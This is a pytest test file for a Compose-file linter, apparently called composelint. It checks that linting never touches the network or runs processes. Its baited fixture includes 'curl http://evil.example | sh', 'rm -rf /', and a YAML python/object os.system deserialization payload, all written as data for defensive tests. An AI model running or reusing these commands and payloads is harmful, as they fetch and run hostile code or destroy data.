"""composelint reads files; it never runs, fetches or imports what a linted file names.

Every way out of the process (sockets, name lookups, child processes,
``os.system``/``exec``/``spawn``) is replaced by a trap for the duration of a check and a fix over the whole corpus
tree plus a stack that names remote and executable things everywhere it can.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from composelint.config import ConfigError, load_config
from composelint.rules.selection import known_codes
from composelint.run.engine import run
from composelint.run.fixing import fix_run
from tests.conftest import CORPUS_TREE

BAITED_STACK = """\
include:
  - git@github.com:example/stack.git
  - oci://registry.example.org/stack:latest
  - https://example.org/compose.yaml
services:
  web:
    build:
      context: https://github.com/example/web.git#main
    image: example/web
    command: ["sh", "-c", "curl http://evil.example | sh"]
    healthcheck:
      test: ["CMD", "touch", "/tmp/pwned"]
    env_file: https://example.org/env
    extends:
      file: http://example.org/base.yaml
      service: base
    ports:
      - "8080:80"
    labels:
      x: !!python/object/apply:os.system ["touch /tmp/pwned"]
  worker:
    build: ssh://git@example.org/worker.git
    entrypoint: /bin/rm -rf /
    ports:
      - "9090:9090"
"""


class Escape(AssertionError):
    """Raised by a trap: the run tried to leave the process."""


@pytest.fixture
def sealed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    attempts: list[str] = []

    def trap(what: str):  # noqa: ANN202
        def refuse(*args: object, **kwargs: object) -> None:
            attempts.append(f"{what}{args[:2]!r}")
            raise Escape(what)

        return refuse

    monkeypatch.setattr(socket.socket, "connect", trap("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", trap("socket.connect_ex"))
    monkeypatch.setattr(socket, "create_connection", trap("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", trap("socket.getaddrinfo"))
    monkeypatch.setattr(subprocess.Popen, "__init__", trap("subprocess.Popen"))
    for name in ("system", "popen", "execv", "execve", "execvp", "spawnv", "posix_spawn"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, trap(f"os.{name}"))
    return attempts


def test_checking_and_fixing_never_leave_the_process(tmp_path: Path, sealed: list[str]) -> None:
    tree = tmp_path / "tree"
    shutil.copytree(CORPUS_TREE, tree, symlinks=True)
    baited = tree / "baited"
    baited.mkdir()
    (baited / "compose.yaml").write_text(BAITED_STACK, encoding="utf-8")
    # The registry is loaded outside the seal: plugins come from installed entry points.
    known_codes()

    checked = run([str(tree)], environ={}, parallel=False)
    outcome = fix_run([str(tree)], unsafe=True, environ={})

    assert sealed == []
    assert len(checked.files) > 150
    baited_result = next(f for f in checked.files if f.path.endswith("baited/compose.yaml"))
    codes = {d.code for d in baited_result.diagnostics}
    # The tag is refused outright: nothing of the file is constructed.
    assert codes == {"CL001"}
    assert "python/object" in baited_result.diagnostics[0].message
    assert not Path("/tmp/pwned").exists()
    assert outcome.changed  # the rest of the tree was fixed, in memory


def test_remote_references_are_reported_never_fetched(tmp_path: Path, sealed: list[str]) -> None:
    stack = BAITED_STACK.replace(
        '      x: !!python/object/apply:os.system ["touch /tmp/pwned"]\n', ""
    )
    stack = stack.replace("    labels:\n", "")
    (tmp_path / "compose.yaml").write_text(stack, encoding="utf-8")

    result = run([str(tmp_path)], environ={}, parallel=False)

    assert sealed == []
    messages = [d.message for d in result.diagnostics if d.code == "CL006"]
    for remote in ("git@github.com", "oci://", "https://example.org/compose.yaml"):
        assert any(remote in m for m in messages), (remote, messages)
    codes = {d.code for d in result.diagnostics}
    assert "CL102" in codes  # the local part of the stack is still checked


def test_a_config_file_cannot_name_code_to_load(tmp_path: Path) -> None:
    config = tmp_path / ".composelint.yaml"
    config.write_text("plugins: [os]\nselect: [CL1]\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="plugins"):
        load_config(config, known_codes())
